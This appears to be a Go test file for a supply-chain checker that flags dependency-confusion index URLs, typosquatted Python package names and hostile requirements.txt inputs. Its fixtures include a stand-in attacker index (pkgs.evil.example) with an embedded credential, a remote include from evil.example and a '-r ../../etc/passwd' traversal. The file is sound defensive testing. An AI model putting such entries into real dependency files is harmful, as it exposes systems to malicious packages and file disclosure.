package rules

import (
	"strings"
	"testing"

	"github.com/cdf-preflight/preflight/analysis/policy"
)

func TestSupplyChain(t *testing.T) {
	pol := &policy.Policy{SupplyChain: policy.SupplyChain{FlagUnpinned: true, AllowedIndexes: []string{"https://pkgs.acme.com/*"}}}
	wantSuite{fam: SupplyChain, dir: "testdata/supplychain", pol: pol, exact: true}.run(t)
}

func TestSupplyChainMessages(t *testing.T) {
	files := map[string][]byte{
		"handler.py":       []byte("def handle(data):\n    return {}\n"),
		"requirements.txt": []byte("--extra-index-url https://deploy:ggQBwBAD3UdRPPgd@pkgs.evil.example/simple\ncognite-sdkk==7.60.0\nrequests\n"),
	}
	res := runFamilyOn(t, SupplyChain, files, nil, &policy.Policy{})
	text := describe(res)
	for _, want := range []string{
		"Installs packages from pkgs.evil.example as well as PyPI — dependency confusion",
		"cognite-sdkk is one typo away from the popular package cognite-sdk",
		"https://deploy:ggQB…@pkgs.evil.example/simple",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
	if strings.Contains(text, "ggQBwBAD3UdRPPgd") {
		t.Errorf("password in clear:\n%s", text)
	}
	if strings.Contains(text, "not pinned") {
		t.Errorf("unpinned reported although the policy does not ask:\n%s", text)
	}
}

func TestTyposquat(t *testing.T) {
	p := popularSet([]string{"acme-internal-lib"})
	for name, want := range map[string]string{
		// pairs in the style of GuardDog's tests
		"reqeusts": "requests", "requestss": "requests", "mumpy": "numpy", "djanga": "django",
		"colourama": "colorama", "pyflaces": "pyflakes", "tenserflow": "tensorflow",
		"ans1crypto": "asn1crypto", "virtualnv": "virtualenv", "nmap-python": "python-nmap",
		"python-mongo": "pymongo", "py-jwt": "pyjwt", "python-openssl": "pyopenssl",
		"request-oauthlib": "requests-oauthlib", "pythonkafka": "kafka-python",
		"cognite-skd": "cognite-sdk", "cognite-sdk-experimantal": "cognite-sdk-experimental",
		"cognitesdk": "cognite-sdk", "cognite-tolkit": "cognite-toolkit", "acme-internal-lbi": "acme-internal-lib",
		"urllib4": "urllib3", "boto4": "boto3",
		// not typosquats
		"requests": "", "numpy": "", "requests-oauthlib": "", "cognite-sdk": "", "hello-world": "",
		"foo": "", "pip": "", "six": "", "sip": "", "boto": "", "my-company-etl": "", "": "",
		"pytest-cov": "", "pdfminer-six": "", "kafka": "", "nmap": "", "requests-python": "requests",
	} {
		got, _, ok := p.typosquatOf(name)
		if !ok {
			got = ""
		}
		if got != want {
			t.Errorf("typosquatOf(%q) = %q, want %q", name, got, want)
		}
	}
}

func TestPopularList(t *testing.T) {
	p := popularSet(nil)
	if len(p.names) < 500 {
		t.Errorf("%d popular names, want about 500", len(p.names))
	}
	seen := map[string]bool{}
	for _, l := range strings.Split(popularTxt, "\n") {
		l = strings.TrimSpace(l)
		if l == "" || strings.HasPrefix(l, "#") {
			continue
		}
		if seen[l] {
			t.Errorf("popular.txt: %q twice", l)
		}
		seen[l] = true
		if strings.ToLower(l) != l || strings.ContainsAny(l, "_. ") {
			t.Errorf("popular.txt: %q is not a canonical name", l)
		}
	}
	for _, must := range []string{"requests", "numpy", "pandas", "urllib3", "boto3", "cognite-sdk", "cognite-toolkit", "cognite-extractor-utils"} {
		if !p.set[must] {
			t.Errorf("popular.txt lacks %s", must)
		}
	}
}

func TestOneEdit(t *testing.T) {
	for _, c := range []struct {
		a, b string
		want bool
	}{
		{"numpy", "mumpy", true}, {"numpy", "numpyy", true}, {"numpy", "nupy", true}, {"numpy", "nmupy", true},
		{"numpy", "numpy", false}, {"numpy", "pmuny", false}, {"numpy", "nu", false}, {"ab", "ba", true}, {"", "a", true},
	} {
		if got := oneEdit(c.a, c.b); got != c.want {
			t.Errorf("oneEdit(%q, %q) = %v, want %v", c.a, c.b, got, c.want)
		}
	}
}

func BenchmarkTyposquat(b *testing.B) {
	p := popularSet(nil)
	names := []string{"reqeusts", "my-company-etl", "pandas", "cognite-sdkk", "python-dateutil2"}
	for i := 0; i < b.N; i++ {
		p.typosquatOf(names[i%len(names)])
	}
}

// TestSupplyChainHostile: huge, binary or self-including requirements give
// bounded findings and no panic.
func TestSupplyChainHostile(t *testing.T) {
	var big strings.Builder
	for i := 0; i < 5000; i++ {
		big.WriteString("reqeusts\n")
	}
	for name, req := range map[string]string{
		"many lines": big.String(),
		"binary":     "\x00\xff\xfe--index-url \x00\n\xc3(\n",
		"self":       "-r requirements.txt\n-r ../../etc/passwd\n-r https://evil.example/r.txt\n",
		"odd urls":   "--index-url ${PIP_INDEX_URL}\n--extra-index-url https://[::1]:99999/x\n-i https://a:b:c@@host/\ngit+https://@/\nx @ file:///etc\n",
	} {
		files := map[string][]byte{"handler.py": []byte("def handle():\n    pass\n"), "requirements.txt": []byte(req)}
		res := runFamilyOn(t, SupplyChain, files, nil, &policy.Policy{SupplyChain: policy.SupplyChain{FlagUnpinned: true}})
		if len(res.Findings) > maxSupplyFindingsPerFile {
			t.Errorf("%s: %d findings", name, len(res.Findings))
		}
		if name != "many lines" && len(res.Findings) == 0 {
			t.Errorf("%s: nothing reported", name)
		}
	}
}
